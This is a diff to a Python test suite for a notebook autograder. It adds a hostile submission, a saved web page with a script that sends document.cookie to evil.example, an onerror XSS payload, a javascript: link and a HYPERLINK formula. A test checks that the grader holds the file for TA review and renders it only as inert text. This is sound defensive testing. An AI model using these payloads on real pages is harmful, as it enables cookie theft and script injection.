@@ -127,6 +127,9 @@ FIFO_MAIN = ("import os\n"
 FILLER = "import os\nos.makedirs('junk', exist_ok=True)\nfor i in range(30000):\n    open(f'junk/{i}', 'wb').close()\n"
 UNSHARE = "import subprocess\nsubprocess.run(['unshare', '-r', 'id'], check=True)\n"
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+WEB_PAGE = ("<!DOCTYPE html>\n<html><head><script>fetch('http://evil.example/'+document.cookie)</script></head>"
+            "<body><img src=x onerror=alert(1)><a href='javascript:alert(2)'>=HYPERLINK(\"evil.example\")</a>"
+            "</body></html>\n")   # a saved web page under the notebook's name, written to attack the review page
 
 
 def _reference_plus(*sources):
@@ -161,6 +164,7 @@ def hostile(tmp_path_factory):
         "honest_5005_6005_HW3_Modules.ipynb": honest,
         "filler_5006_6006_HW3_Modules.ipynb": _reference_plus(FILLER),
         "unshare_5007_6007_HW3_Modules.ipynb": _reference_plus(UNSHARE),
+        "webpage_5008_6008_HW3_Modules.ipynb": WEB_PAGE,
     }
     for name, text in files.items():
         (canvas / name).write_text(text, encoding="utf-8")
@@ -226,6 +230,42 @@ def test_every_gradebook_journal_and_feedback_file_is_written_and_opens_safely(h
         assert not re.search(r"<(a|img|b|script)\b", html), page.name
     backtick = (out / "grades_feedback" / "5003.html").read_text(encoding="utf-8")
     assert "evil.example" in backtick     # shown as text, never a link
+
+
+def test_a_hostile_web_page_under_a_notebooks_name_awaits_a_ta_and_is_shown_only_as_text(hostile):
+    """Never a 0, never run: its 171 points await a TA outside the score and maximum, its Canvas grade is left empty,
+    and the review page shows its markup as text (no element, attribute or script of the file's)."""
+    from html.parser import HTMLParser
+    report, out = hostile["reports"]["5008"], hostile["out"]
+    [item] = [c for c in report["checks"] if isinstance(c.get("review"), dict)]
+    assert item["max_points"] == report["awaiting_review"] == 171 and not module_score(report)[1]
+    assert "a web page saved under a notebook's name" in item["review"]["reason"]
+    with open(out / "grades_canvas.csv", newline="", encoding="utf-8") as f:
+        assert {row[1]: row[5] for row in csv.reader(f)}["5008"] == ""
+
+    class Page(HTMLParser):   # what a browser would make of the page
+        def __init__(self):
+            super().__init__()
+            self.attrs, self.scripts, self.text, self.in_script = [], [], "", False
+
+        def handle_starttag(self, tag, attrs):
+            self.attrs += attrs
+            self.in_script = tag == "script"
+
+        def handle_endtag(self, tag):
+            self.in_script = False
+
+        def handle_data(self, data):
+            if self.in_script:
+                self.scripts.append(data)
+            else:
+                self.text += data
+    page = Page()
+    page.feed((out / "grades_review" / "unreadable-HW3_Modules.html").read_text(encoding="utf-8"))
+    assert not [(name, value) for name, value in page.attrs if name.startswith("on") or "evil.example" in (value or "")
+                or "javascript:" in (value or "")]
+    assert not [script for script in page.scripts if "evil.example" in script]
+    assert "<script>fetch('http://evil.example/'+document.cookie)</script>" in page.text   # shown as text
 
 
 def test_resume_reads_the_journal_back_and_grades_nothing_again(hostile):
